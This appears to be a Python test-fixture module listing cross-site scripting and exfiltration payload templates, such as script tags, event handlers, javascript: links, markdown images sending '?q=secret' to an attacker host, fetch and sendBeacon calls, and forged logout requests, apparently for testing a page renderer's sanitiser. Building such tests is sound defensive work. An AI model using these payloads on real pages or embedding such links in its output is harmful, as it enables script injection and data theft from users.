# ruff: noqa: E501
"""What a model, a tool, a file or a user may write to run a script in a page, or to make the browser ask elsewhere.

`{host}` is a server of the attacker, `{here}` the server of the pages.
"""

from __future__ import annotations

_TEMPLATES = {
    # scripts
    "script": "<script>window.ran=1</script>",
    "script from elsewhere": '<script src="{host}/a.js"></script>',
    "script that ends json": '</script><script>window.ran=1</script><script type="module" src={host}/m.js>',
    "script in a comment": "<!--><script>window.ran=1</script>-->",
    "cdata": "<![CDATA[<script>window.ran=1</script>]]>",
    "module import": "<script type=module>import '{host}/x.js'</script>",
    "split tag": "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "upper case and spaces": "<ScRiPt\t\n>window.ran=1</sCrIpT\t>",
    "nul in a tag": "<scr\x00ipt>window.ran=1</scr\x00ipt>",
    # handlers
    "img onerror": "<img src=x onerror=window.ran=1>",
    "svg onload": "<svg onload=window.ran=1>",
    "svg animate": "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "details ontoggle": "<details open ontoggle=window.ran=1>x</details>",
    "body onload": "<body onload=window.ran=1>",
    "focus": "<input autofocus onfocus=window.ran=1>",
    "marquee": "<marquee onstart=window.ran=1>x</marquee>",
    "video": "<video src={host}/v.mp4 onloadstart=window.ran=1 autoplay></video>",
    "audio": "<audio controls src={host}/a.mp3 autoplay>",
    "quote that leaves an attribute": "\"><img src=x onerror=window.ran=1>",
    "single quote": "'><svg/onload=window.ran=1>",
    "backtick": "`><img src=`x`onerror=window.ran=1>",
    # frames, forms, documents
    "iframe srcdoc": "<iframe srcdoc=\"<script>parent.window.ran=1</script>\"></iframe>",
    "iframe": "<iframe src={host}/frame></iframe>",
    "object": "<object data={host}/o></object><embed src={host}/e>",
    "form": "<form action={host}/f><button autofocus>log in</button></form>",
    "form that is sent here": '<form id=x method=post action="{here}/logout"></form><button form=x formaction={host}/g>go</button>',
    "base": "<base href={host}/>",
    "meta refresh": '<meta http-equiv=refresh content="0;url={host}/r">',
    "stylesheet": "<link rel=stylesheet href={host}/s.css><link rel=preload as=image href={host}/p><link rel=dns-prefetch href={host}>",
    "style import": "<style>@import url({host}/i.css); body{{background:url({host}/b)}}</style>",
    "style attribute": '<p style="background:url({host}/c)">x</p>',
    "background": "<table background={host}/t><tr><td background={host}/d>x</table>",
    # pictures
    "markdown picture": "![status]({host}/leak?q=secret)",
    "picture by reference": "![a][leak]\n\n[leak]: {host}/leak 'title'",
    "picture in a link": "[![a]({host}/leak)]({host}/click)",
    "picture in a table": "| a | b |\n|---|---|\n| ![x]({host}/cell) | <img src={host}/cell2> |",
    "picture in a heading": "# ![x]({host}/h1)\n\nx\n===\n![y]({host}/h2)",
    "srcset": '<picture><source srcset="{host}/s 1x"><img srcset="{host}/t 2x"></picture>',
    "svg picture": "<svg><image href={host}/i xlink:href={host}/j /><use href={host}/u#x /></svg>",
    "picture of this server": "![x]({here}/logout) ![y](api/runs/last/cancel)",
    "data picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSIvPg==)",
    "picture without scheme": "![x](//{bare}/leak) ![y](\\\\{bare}/leak) ![z](/\\{bare}/leak)",
    "input picture": "<input type=image src={host}/input>",
    # links
    "javascript link": "[x](javascript:window.ran=1) <javascript:window.ran=1>",
    "javascript link in parts": "[x](java\tscript:window.ran=1) [y](JaVaScRiPt&colon;window.ran=1) [z](&#106;avascript:window.ran=1)",
    "javascript after a control character": "[x](\x01javascript:window.ran=1) <a href='\x01javascript:window.ran=1'>y</a>",
    "vbscript and data links": "[x](vbscript:msgbox) [y](data:text/html,<script>window.ran=1</script>)",
    "link with a title": '[x]({host} "a\\" onmouseover=window.ran=1 b=\\"")',
    "link with a user": "[bank](https://bank.example@{bare}/) [punycode](http://xn--pple-43d.com)",
    "ping": "<a href=# ping={host}/ping autofocus>x</a>",
    "reference": "[x][1] [1]\n\n[1]: javascript:window.ran=1",
    # languages, names, templates
    "language of a block": '```"><img src=x onerror=window.ran=1>\nx\n```\n\n```js" onclick="window.ran=1\ny\n```',
    "mermaid": '```mermaid\ngraph TD; a["<img src={host}/m onerror=window.ran=1>"]; click a href "javascript:window.ran=1"\n```',
    "html block": "```html\n<script>window.ran=1</script>\n```",
    "maths": "$$\\href{{javascript:window.ran=1}}{{x}}$$ <math><mtext><mglyph><style><img src=x onerror=window.ran=1>",
    "template": "{{{{constructor.constructor('window.ran=1')()}}}} ${{window.ran=1}} #{{window.ran=1}} <%= window.ran=1 %>",
    "mutation": "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
    "mutation of a select": "<svg></p><style><a id=\"</style><img src=1 onerror=window.ran=1>\">",
    "names of the document": "<img name=body><form id=document><input name=cookie><a id=main name=main>",
    "prototype": '{{"__proto__": {{"innerHTML": "<img src=x onerror=window.ran=1>"}}, "constructor": {{"prototype": {{"src": "{host}/p"}}}}}}',
    "separators": "\u2028<script>window.ran=1</script>\u2029",
    "directions": "\u202e<script>window.ran=1</script>\u2066 \u200b\u200d\ufeff",
    "escapes": "&lt;script&gt;window.ran=1&lt;/script&gt; \\u003cscript\\u003ewindow.ran=1 %3Cscript%3Ewindow.ran=1",
    "foot of a page": "x[^1]\n\n[^1]: ![a]({host}/foot) <img src={host}/foot2>",
    "list and quote": "> - ![x]({host}/q)\n>   1. <img src={host}/r>\n>      ```\n> ![y]({host}/s)",
    "event source": "<script>new EventSource('{host}/es');fetch('{host}/f');navigator.sendBeacon('{host}/b')</script>",
    "file name": "../../<img src={host}/n onerror=window.ran=1>.png",
}  # fmt: skip


def make_attacks(host: str, here: str) -> dict[str, str]:
    """Return the attacks by their names. `host` and `here` are addresses such as http://127.0.0.1:8765."""
    bare = host.partition("//")[2]
    return {name: text.format(host=host, here=here, bare=bare) for name, text in _TEMPLATES.items()}
